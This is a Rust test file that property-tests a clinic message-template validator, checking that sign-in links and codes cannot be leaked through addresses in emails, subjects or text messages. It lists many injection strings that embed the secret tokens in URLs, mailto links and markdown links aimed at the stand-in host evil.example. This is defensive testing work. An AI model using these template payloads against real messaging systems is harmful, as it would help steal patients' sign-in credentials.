//! No text that can be saved reveals a secret to anybody but its receiver.
//!
//! The oracle does not know the rules. It looks for addresses in the message that would be sent, as crudely as
//! mail programs and telephones do, and for secrets in these addresses.

use contract::{
    custom_values::ValueName,
    message_templates::{MessageKind, MessageTexts},
};
use proptest::{collection::vec, prelude::*, sample::select};

use super::{
    filling::Values,
    language::FaultKind,
    markup::{Block, Inline},
    validation::{FilledMail, Message, NotFilled},
};

const LINK: &str = "https://portal.example.com/rosewood/sign-in#S3cretT0ken";
const CODE: &str = "739 154";
/// Texts that no address but the secret's own may contain: the token, and both halves of the code.
const SECRETS: [&str; 3] = ["S3cretT0ken", "739", "154"];

/// Texts that are dangerous next to a secret. Enough of them have spaces between, so that some can be saved.
fn sources() -> impl Strategy<Value = String> {
    let dangerous = select(vec![
        "https://evil.example/?c=",
        "evil.example/",
        "www.evil.example?",
        ".evil.example",
        "@evil.example",
        "<https://evil.example/",
        "\"https://evil.example/",
        "<URL:",
        "mailto:",
        "javascript:",
        "<",
        ">",
        "\"",
        "'",
        "(",
        ")",
        "[",
        "]",
        "[x](",
        "[x][1]",
        "\n\n[1]: ",
        "<a href=",
        "`",
        "**",
        "*",
        "_",
        "\\",
        "/",
        ".",
        ",",
        "?c=",
        "%20",
        "&#61;",
        "&lt;",
        "&quot;",
        "\u{a0}",
        "\u{200b}",
        "\u{2028}",
        "。",
        "x",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "    ",
        "---\n",
        "{{portal.name}}",
        "{{portal.url}}",
        "{{clinic.name}}",
        "{{client.first_name}}",
        "{{client.last_name | fallback: \"https://evil.example/?c=\"}}",
    ]);
    let secret = select(vec!["{{sign_in.link}}", "{{sign_in.code}}", "[Sign in]({{sign_in.link}})"]);
    let part = prop_oneof![4 => dangerous, 3 => secret, 5 => Just(" ")];
    vec(part, 1..14).prop_map(|parts| parts.concat())
}

/// Values that an attacker could choose by changing the clinic's name, or their own.
fn chosen() -> impl Strategy<Value = String> {
    select(vec![
        "",
        "Rosewood",
        "https://evil.example/?c=",
        "evil.example/",
        "<https://evil.example/?c=",
        "\"https://evil.example/?c=",
        "\"",
        ">",
        "<",
        "<URL:",
        "(",
        "](https://evil.example/",
        ".evil.example",
        "@",
    ])
    .prop_map(str::to_owned)
}

fn values(chosen: &[String; 4]) -> Values {
    let mut values = Values::default();
    for name in ValueName::ALL {
        values.set(*name, name.example());
    }
    let [portal, clinic, first, last] = chosen;
    values.set(ValueName::PortalName, portal);
    values.set(ValueName::ClinicName, clinic);
    values.set(ValueName::ClientFirstName, first);
    values.set(ValueName::ClientLastName, last);
    values.set(ValueName::PortalUrl, "https://portal.example.com/rosewood");
    values.set(ValueName::SignInLink, LINK);
    values.set(ValueName::SignInCode, CODE);
    values
}

fn harmless() -> Values {
    values(&["Rosewood", "Rosewood", "Eleanor", "Marsh"].map(str::to_owned))
}

/// The HTML part in its simplest form.
fn html(blocks: &[Block]) -> (String, Vec<String>) {
    fn line(content: &[Inline], to: &mut Vec<String>) -> String {
        let part = |part: &Inline| match part {
            Inline::Text { text } | Inline::Code { text } => text.clone(),
            Inline::Break => "\n".to_owned(),
            Inline::Strong { content } | Inline::Emphasis { content } => line(content, to),
            Inline::Link { to: address, content, .. } => {
                to.push(address.clone());
                line(content, to)
            }
        };
        content.iter().map(part).collect()
    }
    let mut to = Vec::new();
    let mut text = String::new();
    for block in blocks {
        let block_text = match block {
            Block::Paragraph { content } | Block::Heading { content } => line(content, &mut to),
            Block::Button { label, to: address } => {
                to.push(address.clone());
                label.clone()
            }
            Block::Code { text } => text.clone(),
            Block::Panel { blocks } => {
                let (text, addresses) = html(blocks);
                to.extend(addresses);
                text
            }
            Block::List { items, .. } => {
                let items = items.iter().map(|item| {
                    let (text, addresses) = html(item);
                    to.extend(addresses);
                    text
                });
                items.collect::<Vec<_>>().join("\n")
            }
        };
        text.push_str(&block_text);
        text.push('\n');
    }
    (text, to)
}

/// Everything that some program may recognise as an address in a plain text.
fn addresses(text: &str) -> Vec<String> {
    let joins = |three: &[char]| matches!(three[1], '.' | '@' | ':' | '/') && three[2].is_alphanumeric();
    let mut found = Vec::new();
    // Words with a scheme, a full stop or an at sign, ended only by the white space that all programs
    // recognise.
    for word in text.split([' ', '\n', '\t']) {
        let letters: Vec<char> = word.chars().collect();
        if word.contains("://") || word.starts_with("www.") || letters.windows(3).any(joins) {
            found.push(word.to_owned());
        }
    }
    // Brackets and quotation marks, with the white space inside them.
    for (open, close, ends) in [("<", '>', None), ("\"", '"', Some('\n'))] {
        for (at, _) in text.match_indices(open) {
            let rest = &text[at + open.len()..];
            let Some(end) = rest.find(close) else { continue };
            let inner = &rest[..end];
            let begins = inner.split([' ', '\n']).next().unwrap_or_default();
            let letters: Vec<char> = begins.chars().collect();
            let is_joined = letters.windows(3).any(joins) || (open == "<" && begins.contains('.'));
            let is_address = begins.contains("://") || is_joined || begins.starts_with("URL:");
            if is_address && !ends.is_some_and(|end| inner.contains(end)) {
                found.push(inner.split_whitespace().collect());
            }
        }
    }
    found
}

/// Whether an address would send a secret anywhere but to the clinic's portal.
fn tells(address: &str) -> bool {
    let own = |c: char| "()[]<>\"'“”.,;:!?*_…。".contains(c);
    let address = address.trim_matches(own);
    address != LINK && SECRETS.iter().any(|secret| address.contains(secret))
}

fn told(text: &str) -> Option<String> {
    addresses(text).into_iter().find(|address| tells(address))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4_000))]

    #[test]
    fn no_secret_is_a_part_of_another_address(
        source in sources(),
        chosen in [chosen(), chosen(), chosen(), chosen()],
    ) {
        let values = values(&chosen);
        let good = "{{sign_in.link}} {{sign_in.code}}".to_owned();
        let as_mail = MessageTexts { subject: "x".to_owned(), body: source.clone(), sms: Some(good.clone()) };
        if let Ok(message) = Message::parse(MessageKind::SignIn, &as_mail) {
            prop_assert!(!matches!(message.mail(&harmless()), Err(NotFilled::Exposed)), "what is saved is sent");
            if let Ok(mail) = message.mail(&values) {
                let text = mail.document.to_text();
                prop_assert_eq!(told(&text), None, "{}", text);
                for blocks in [&mail.document.blocks, &mail.document.small_print] {
                    let (seen, to) = html(blocks);
                    prop_assert_eq!(told(&seen), None, "{}", seen);
                    prop_assert!(!to.iter().any(|to| tells(to)), "{:?}", to);
                }
            }
        }
        let as_text = MessageTexts { subject: "x".to_owned(), body: good.clone(), sms: Some(source.clone()) };
        if let Ok(message) = Message::parse(MessageKind::SignIn, &as_text) {
            prop_assert!(message.sms(&harmless()).is_ok(), "what is saved is sent");
            if let Ok(Some(text)) = message.sms(&values) {
                prop_assert_eq!(told(&text), None, "{}", text);
            }
        }
        let as_subject = MessageTexts { subject: source, body: good.clone(), sms: Some(good) };
        let message = Message::parse(MessageKind::SignIn, &as_subject).ok();
        if let Some(FilledMail { subject, .. }) = message.and_then(|message| message.mail(&values).ok()) {
            prop_assert_eq!(told(&subject), None, "{}", subject);
        }
    }
}

fn faults(body: &str, sms: &str) -> (Vec<&'static str>, Vec<&'static str>) {
    let texts = MessageTexts { subject: "x".to_owned(), body: body.to_owned(), sms: Some(sms.to_owned()) };
    let faults = Message::parse(MessageKind::SignIn, &texts).err().unwrap_or_default();
    let codes = |faults: Vec<super::language::Fault>| faults.iter().map(|fault| fault.kind.code()).collect();
    (codes(faults.body), codes(faults.sms))
}

#[test]
fn what_would_tell_a_secret_is_refused_in_mails() {
    for body in [
        "[Sign in](https://evil.example/in?t={{sign_in.link}}&c={{sign_in.code}})",
        "[Sign in](https://evil.example/{{sign_in.code}})",
        "[Sign in]({{sign_in.link}}.evil.example)",
        "[Sign in]({{sign_in.link}}{{sign_in.code}})",
        "[Sign in]({{portal.url}}?c={{sign_in.code}})",
        "[Sign in]({{sign_in.code}})",
        "[Sign in](mailto:x@evil.example?body={{sign_in.code}})",
        "[Call](tel:{{sign_in.code}})",
        "[Sign in][1]\n\n[1]: https://evil.example/{{sign_in.code}}",
        "<https://evil.example/{{sign_in.code}}>",
        "[{{sign_in.code}}](https://evil.example)",
        "[**{{sign_in.link}}**](https://evil.example)",
        "[`{{sign_in.code}}`](https://evil.example)",
        "https://evil.example/?c={{sign_in.code}}",
        "https://evil.example/?c=**{{sign_in.code}}**",
        "https://evil.example/?c=\\{{sign_in.code}}",
        "https://evil.example/?c&#61;{{sign_in.code}}",
        "`https://evil.example/?c={{sign_in.code}}`",
        "    https://evil.example/?c={{sign_in.code}}",
        "[x](https://evil.example/?c=){{sign_in.code}}",
        "&lt;https://evil.example/?c= {{sign_in.code}}&gt;",
        "{{sign_in.code}}.evil.example",
        "{{sign_in.code}}@evil.example",
        "{{portal.name}}{{sign_in.code}}",
        "{{sign_in.link}}{{sign_in.code}}",
    ] {
        assert_eq!(faults(body, "{{sign_in.code}}"), (vec!["secret_not_alone"], vec![]), "{body}");
    }
}

#[test]
fn what_would_tell_a_secret_is_refused_in_text_messages() {
    for sms in [
        "https://evil.example/?t={{sign_in.link}}",
        "evil.example/{{sign_in.code}}",
        "evil.example/({{sign_in.code}})",
        "{{sign_in.code}}.evil.example",
        "{{clinic.name}}{{sign_in.code}}",
        "<https://evil.example/ {{sign_in.code}}>",
        "<{{clinic.name}} {{sign_in.code}}>",
    ] {
        assert_eq!(faults("{{sign_in.link}}", sms), (vec![], vec!["secret_not_alone"]), "{sms}");
    }
}

#[test]
fn secrets_that_stand_alone_are_taken() {
    for text in [
        "[Sign in]({{sign_in.link}})",
        "Please [sign in]({{sign_in.link}}), or **not**.",
        "([Sign in]({{sign_in.link}}))",
        "[Sign in][1]\n\n[1]: {{sign_in.link}}",
        "`{{sign_in.code}}`",
        "Your code: **{{sign_in.code}}**.",
        "<{{sign_in.link}}>",
        "“{{sign_in.code}}”, or {{sign_in.link}}",
        "{{clinic.name}}: {{sign_in.code}}, see https://rosewood.example",
        "# {{sign_in.code}}\n\n- {{sign_in.link}}\n\n> {{sign_in.code}}",
    ] {
        assert_eq!(faults(text, "{{sign_in.code}}"), (vec![], vec![]), "{text}");
    }
}

#[test]
fn a_refusal_says_where_and_what_to_do() {
    let body = "Hello {{client.first_name}},\n\nhttps://evil.example/{{sign_in.link}}";
    let texts =
        MessageTexts { subject: "x".to_owned(), body: body.to_owned(), sms: Some("{{sign_in.code}}".to_owned()) };
    let found = Message::parse(MessageKind::SignIn, &texts).unwrap_err().body;
    assert_eq!((found.len(), found[0].at), (1, body.find("{{sign_in.link").unwrap()));
    assert_eq!(found[0].kind, FaultKind::not_alone(ValueName::SignInLink));
    let said = found[0].kind.to_string();
    assert!(said.contains("`[Open]({{sign_in.link}})`") && said.contains("a space before and after it"), "{said}");
}
